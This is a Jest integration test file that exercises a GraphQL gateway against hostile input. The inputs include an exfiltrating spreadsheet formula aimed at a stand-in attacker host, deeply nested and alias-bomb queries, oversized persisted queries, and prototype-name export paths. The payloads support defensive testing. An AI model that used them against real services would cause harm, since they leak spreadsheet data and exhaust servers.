import { createHash, randomBytes } from 'node:crypto';
import { loadSettings, Role } from '@ugf/runtime';
import { loadGatewayConfig } from '../../gateway/src/config';
import { startTestStack, type TestStack } from '../helpers/test-stack';

const NESTED_PEERS = '{ cities { peers { id observations { nodes { value revisions { value } } } peers { id observations { nodes { value revisions { value } } } } } } }';
const FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"source")';

/** The body of a refusal: errors with a code. */
type Refusal = { errors: { extensions: { code: string } }[] };
type Observations<N> = { city: { observations: { totalCount: number; pageInfo: { hasNextPage: boolean; endCursor: string }; nodes: N[] } } };

describe('the gateway under hostile use', () => {
  let system: TestStack;
  let editor: string;
  const post = (body: unknown, token?: string) =>
    fetch(system.stack.gatewayUrl, { method: 'POST', headers: { 'content-type': 'application/json', ...(token ? { authorization: `Bearer ${token}` } : {}) }, body: JSON.stringify(body) });
  const get = (path: string) => fetch(new URL(path, system.stack.gatewayUrl));

  beforeAll(async () => {
    system = await startTestStack({ RATE_LIMIT_WRITES_PER_MINUTE: '5' });
    editor = await system.token({ sub: 'formula-writer', role: Role.CITY_EDITOR, city: 'haikou' });
  }, 120_000);
  afterAll(() => system?.stop(), 60_000);

  it('refuses a query whose worst-case answer is too large before anything runs, with the estimate and the limit', async () => {
    const response = await post({ query: NESTED_PEERS });
    const body = (await response.json()) as { data?: unknown; errors: { extensions: Record<string, unknown> }[] };
    expect(response.status).toBe(400);
    expect(body.data).toBeUndefined();
    const { maxCost } = loadGatewayConfig(loadSettings({})).limits;
    expect(body.errors[0].extensions).toMatchObject({ code: 'COST_LIMIT_EXCEEDED', maxCost });
    expect(body.errors[0].extensions.cost).toBeGreaterThan(maxCost);
  });

  it("pages a city's observations and refuses a page over the maximum", async () => {
    const first = await system.query<Observations<{ id: string }>>('{ city(id: "beijing") { observations(first: 3) { totalCount pageInfo { hasNextPage endCursor } nodes { id } } } }');
    const page = first.data!.city.observations;
    expect(page.nodes).toHaveLength(3);
    expect(page.totalCount).toBeGreaterThan(3);
    expect(page.pageInfo.hasNextPage).toBe(true);
    const second = await system.query<Observations<{ id: string }>>('query ($after: String) { city(id: "beijing") { observations(first: 3, after: $after) { nodes { id } } } }', {
      after: page.pageInfo.endCursor,
    });
    const ids = second.data!.city.observations.nodes.map((node) => node.id);
    expect(ids).toHaveLength(3);
    expect(ids.some((id) => page.nodes.some((node) => node.id === id))).toBe(false);
    const tooMany = await system.query('{ city(id: "beijing") { observations(first: 1001) { nodes { id } } } }');
    expect(tooMany.errors?.[0].extensions?.code).toBe('BAD_USER_INPUT');
    const badCursor = await system.query('{ city(id: "beijing") { observations(after: "nonsense") { nodes { id } } } }');
    expect(badCursor.errors?.[0].extensions?.code).toBe('BAD_USER_INPUT');
  });

  it('keeps random operation names out of the metrics labels', async () => {
    const metrics = async () => (await get('/metrics')).text();
    const before = await metrics();
    const names = Array.from({ length: 40 }, () => `Op${randomBytes(10_000).toString('hex')}`);
    for (const name of names) await post({ query: `query ${name} { initiatives { id } }`, operationName: name });
    const after = await metrics();
    console.log(`/metrics grew by ${after.length - before.length} bytes after 40 requests with random 20 kB operation names`);
    expect(names.some((name) => after.includes(name.slice(0, 40)))).toBe(false);
    expect(after).toMatch(/graphql_requests_total\{[^}]*operation="other"[^}]*\} 40/);
  });

  it('answers an unknown export name with a JSON 404, also for names of JavaScript object properties', async () => {
    for (const name of ['constructor', '__proto__', 'toString', 'hasOwnProperty']) {
      const response = await get(`/export/${name}.csv`);
      expect({ name, status: response.status, code: ((await response.json()) as Refusal).errors[0].extensions.code }).toEqual({ name, status: 404, code: 'NOT_FOUND' });
    }
  });

  it('writes a text that a spreadsheet would run as a formula as inert text, and numbers as numbers', async () => {
    const submitted = await system.query(
      'mutation ($input: SubmitObservationsInput!) { submitObservations(input: $input) { created } }',
      { input: { idempotencyKey: `formula-${Date.now()}`, items: [{ cityId: 'haikou', indicatorCode: 'HOTLINE_RESOLUTION_RATE', period: '2025', value: 90.5, source: FORMULA }] } },
      editor,
    );
    expect(submitted.errors).toBeUndefined();
    const csv = await (await get('/export/ranking.csv?indicatorCode=HOTLINE_RESOLUTION_RATE&period=2025&cityIds=haikou')).text();
    expect(csv).toContain(`"'${FORMULA.replace(/"/g, '""')}"`);
    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);

    const series = await system.query<{ beijing: { series: { points: { changeFromPrevious: number | null }[] } } }>(
      '{ beijing: city(id: "beijing") { series(includeSample: true, indicatorCode: "PM25_ANNUAL_MEAN") { points { changeFromPrevious } } } }',
    );
    const negative = series.data?.beijing.series.points.map((point) => point.changeFromPrevious).find((change) => change !== null && change < 0);
    expect(negative).toBeLessThan(0);
    const seriesCsv = await (await get('/export/series.csv?cityId=beijing&indicatorCode=PM25_ANNUAL_MEAN&includeSample=true')).text();
    expect(seriesCsv.split(/\r?\n/).some((line) => line.split(',').includes(String(negative)))).toBe(true);
  });

  it('counts every mutation field of an operation, aliases included, against the write budget', async () => {
    const writer = await system.token({ sub: 'alias-writer', role: Role.CITY_EDITOR, city: 'haikou' });
    const aliases = Array.from({ length: 6 }, (_, index) => `w${index}: enrollCity(cityId: "haikou")`).join(' ');
    const response = await post({ query: `mutation { ${aliases} }` }, writer);
    const body = (await response.json()) as Refusal;
    expect(response.status).toBe(429);
    expect(body.errors[0].extensions.code).toBe('RATE_LIMITED');
  });

  it('refuses to store a persisted query larger than the cap', async () => {
    const query = `{ initiatives { id ${'title '.repeat(4000)}} }`;
    const sha256Hash = createHash('sha256').update(query).digest('hex');
    const response = await post({ query, extensions: { persistedQuery: { version: 1, sha256Hash } } });
    expect(response.status).toBe(400);
    expect(((await response.json()) as Refusal).errors[0].extensions.code).toBe('PERSISTED_QUERY_TOO_LARGE');
    const lookup = await post({ extensions: { persistedQuery: { version: 1, sha256Hash } } });
    expect(((await lookup.json()) as Refusal).errors[0].extensions.code).toBe('PERSISTED_QUERY_NOT_FOUND');
  });

  it('refuses an alias bomb at the front door with one validation error', async () => {
    const query = `{ ${Array.from({ length: 1000 }, (_, index) => `a${index}: initiatives { id }`).join(' ')} }`;
    const response = await post({ query });
    const body = (await response.json()) as Refusal;
    expect(response.status).toBe(400);
    expect(body.errors).toHaveLength(1);
    expect(body.errors[0].extensions.code).toBe('GRAPHQL_VALIDATION_FAILED');
  });
});
